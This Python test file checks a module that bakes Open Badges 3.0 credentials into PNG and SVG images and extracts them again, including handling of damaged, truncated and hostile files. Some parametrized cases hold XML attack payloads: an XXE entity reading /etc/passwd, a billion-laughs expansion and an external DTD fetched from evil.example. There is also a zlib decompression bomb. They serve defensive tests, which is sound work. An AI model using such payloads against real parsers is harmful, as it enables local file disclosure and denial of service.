"""Baked Open Badges 3.0 images: the 1EdTech fixtures, bake/extract round trips, damage."""

import gzip
import json
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vault.credentials.baked import bake_png, bake_svg, extract
from vault.credentials.verdict import CredentialFailure, Reason

OB30 = Path(__file__).parents[1] / "fixtures" / "credentials" / "ob30"
CREDENTIAL = json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"],
                         "type": ["VerifiableCredential", "OpenBadgeCredential"],
                         "name": "Teamwork — <&> ]]> ✓"}, ensure_ascii=False).encode()
JWT = (OB30 / "simple.jwt").read_bytes().strip()
# The smallest valid PNG: 1x1 grey pixel.
TINY_PNG = (b"\x89PNG\r\n\x1a\n"
            + b"\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU"
            + b"\x00\x00\x00\nIDATx\x9cch\x00\x00\x00\x82\x00\x81w\xcdr\xb6"
            + b"\x00\x00\x00\x00IEND\xaeB`\x82")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="4"/></svg>'


def read(name: str) -> bytes:
    return (OB30 / name).read_bytes()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def with_chunk(png: bytes, extra: bytes) -> bytes:
    return png[:-12] + extra + png[-12:]          # before IEND


def expect_malformed(data: bytes, words: str = "") -> CredentialFailure:
    with pytest.raises(CredentialFailure) as failure:
        extract(data)
    assert failure.value.reason is Reason.MALFORMED, failure.value.message
    assert words in failure.value.message
    return failure.value


# ----------------------------------------------------------------------- fixtures

@pytest.mark.parametrize("name", ["simple-json.png", "simple-json.svg"])
def test_json_badges(name):
    credential = json.loads(extract(read(name)))
    assert credential["type"] == ["VerifiableCredential", "OpenBadgeCredential"]
    assert credential["credentialSubject"]["achievement"]["name"] == "Teamwork"
    assert credential["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"


@pytest.mark.parametrize("name", ["simple-jwt.png", "simple-jwt.svg",
                                  "simple-jwt_v1.png", "simple-jwt_v1.svg"])
def test_jwt_badges(name):
    token = extract(read(name))
    assert token.count(b".") == 2 and all(token.split(b"."))
    assert token.startswith(b"eyJ")


# ----------------------------------------------------------------------- round trips

@pytest.mark.parametrize("compress", [False, True])
@pytest.mark.parametrize("payload", [CREDENTIAL, JWT])
def test_bake_png_round_trip(payload, compress):
    baked = bake_png(TINY_PNG, payload, compress=compress)
    assert extract(baked) == payload
    # Re-baking replaces the credential and keeps the image bytes.
    rebaked = bake_png(baked, JWT)
    assert extract(rebaked) == JWT
    assert rebaked.count(b"openbadgecredential") == 1
    assert rebaked.startswith(TINY_PNG[:-12]) and rebaked.endswith(TINY_PNG[-12:])


def test_bake_png_over_a_fixture_keeps_its_other_chunks():
    original = read("simple-json.png")
    baked = bake_png(original, JWT)
    assert extract(baked) == JWT and len(baked) == len(original) - 1365 + len(JWT)


@pytest.mark.parametrize("payload", [CREDENTIAL.decode(), JWT.decode()])
def test_bake_svg_round_trip(payload):
    baked = bake_svg(SVG, payload)
    assert extract(baked.encode()) == payload.encode()
    assert 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert baked.endswith('<circle r="4"/></svg>')


def test_bake_svg_replaces_the_credential_of_a_fixture():
    original = read("simple-jwt.svg").decode()
    baked = bake_svg(original, CREDENTIAL.decode())
    assert extract(baked.encode()) == CREDENTIAL
    assert baked.count("openbadges:credential") == 2            # one open + one close tag
    # Prolog (XML declaration, DOCTYPE) and the drawing are kept byte for byte.
    assert baked.split("<svg", 1)[0] == original.split("<svg", 1)[0]
    assert baked.split("<g>", 1)[1] == original.split("<g>", 1)[1]
    again = bake_svg(baked, JWT.decode())
    assert extract(again.encode()) == JWT


def test_bake_svg_with_crlf_json_parses_to_the_same_credential():
    # XML turns CR LF into LF, so JSON with Windows line ends comes back with LF only.
    original = read("simple.json")
    assert b"\r\n" in original
    assert json.loads(extract(bake_svg(SVG, original.decode()).encode())) == json.loads(original)


def test_bake_svg_when_the_prefix_is_taken():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="urn:other"><g/></svg>'
    assert extract(bake_svg(svg, JWT.decode()).encode()) == JWT


def test_svgz():
    assert json.loads(extract(gzip.compress(read("simple-json.svg"))))["name"] == "Teamwork Badge"


# ----------------------------------------------------------------------- damage

def test_png_without_credential():
    expect_malformed(TINY_PNG, "holds no Open Badges credential")


@pytest.mark.parametrize("cut", [1, 12, 13, 5000, 84000])
def test_truncated_png(cut):
    data = read("simple-json.png")
    expect_malformed(data[:len(data) - cut])


def test_png_with_a_bad_crc():
    data = bytearray(read("simple-json.png"))
    data[-100] ^= 0xFF                                   # inside the iTXt text
    expect_malformed(bytes(data), "CRC")


def test_png_with_two_credentials():
    itxt = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JWT)
    expect_malformed(with_chunk(bake_png(TINY_PNG, JWT), itxt), "more than one")


@pytest.mark.parametrize("body", [
    b"openbadgecredential",                                   # no separators
    b"openbadgecredential\0\x01\x00\0\0not zlib",             # compressed flag, bad data
    b"openbadgecredential\0\x01\x00\0\0" + zlib.compress(JWT)[:-4],   # truncated stream
    b"openbadgecredential\0\x01\x07\0\0" + zlib.compress(JWT),        # unknown method
    b"openbadgecredential\0\x00\x00\0\0not a credential",
    b"openbadgecredential\0\x00\x00\0\0{not json",
    b"openbadgecredential\0\x00\x00\0\0[1, 2]",
    b"openbadgecredential\0\x00\x00\0\0",
])
def test_damaged_itxt(body):
    expect_malformed(with_chunk(TINY_PNG, chunk(b"iTXt", body)))


def test_compressed_itxt_bomb_is_refused():
    bomb = zlib.compress(b"{" + b" " * (20 * 1024 * 1024) + b"}")
    expect_malformed(with_chunk(TINY_PNG, chunk(
        b"iTXt", b"openbadgecredential\0\x01\x00\0\0" + bomb)), "too large")


def test_open_badges_2_png_is_unsupported_not_malformed():
    png = with_chunk(TINY_PNG, chunk(b"iTXt", b"openbadges\0\0\0\0\0https://example.org/a"))
    with pytest.raises(CredentialFailure) as failure:
        extract(png)
    assert failure.value.reason is Reason.UNSUPPORTED_FORMAT


def test_svg_without_credential():
    expect_malformed(SVG.encode(), "holds no Open Badges credential")


@pytest.mark.parametrize("svg", [
    # XXE: an external entity that would read a local file.
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
    '<openbadges:credential>&xxe;</openbadges:credential></svg>',
    # Billion laughs.
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
    # External parameter entity (DTD fetch).
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">'
    ' %ext;]><svg xmlns="http://www.w3.org/2000/svg"/>',
])
def test_svg_with_entities_is_refused(svg):
    expect_malformed(svg.encode(), "entities")


@pytest.mark.parametrize("svg", [
    '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',                  # not well-formed
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0">'
    '<o:credential>not json</o:credential></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0">'
    '<o:credential verify="a.b.c">{"a": 1}</o:credential></svg>',         # two credentials
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0">'
    '<o:credential verify="a.b.c"/><o:credential verify="d.e.f"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0">'
    '<o:credential/></svg>',
])
def test_bad_svgs(svg):
    expect_malformed(svg.encode())


def test_wrong_namespace_is_no_credential():
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://example.org/x">'
           '<openbadges:credential verify="a.b.c"/></svg>')
    expect_malformed(svg.encode(), "holds no Open Badges credential")


def test_not_an_image():
    expect_malformed(b"GIF89a....", "neither a PNG nor an SVG")
    expect_malformed(b"", "neither a PNG nor an SVG")
    expect_malformed(b"\x1f\x8b\x08\x00garbage", "compressed SVG")


# ----------------------------------------------------------------------- properties

@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_random_bytes_only_raise_credential_failure(data):
    for candidate in (data, b"\x89PNG\r\n\x1a\n" + data, b"<svg" + data, TINY_PNG[:-12] + data):
        try:
            extract(candidate)
        except CredentialFailure:
            pass


@settings(max_examples=100, deadline=None)
@given(st.integers(0, len(TINY_PNG) + 80), st.integers(0, 255))
def test_flipped_bytes_in_a_baked_png(position, value):
    baked = bytearray(bake_png(TINY_PNG, b'{"a": 1}'))
    baked[position % len(baked)] = value
    try:
        assert extract(bytes(baked)) == b'{"a": 1}'
    except CredentialFailure:
        pass


@settings(max_examples=50, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=60))
def test_svg_round_trip_any_json_text(name):
    payload = json.dumps({"name": name}, ensure_ascii=False)
    assert json.loads(extract(bake_svg(SVG, payload).encode())) == {"name": name}
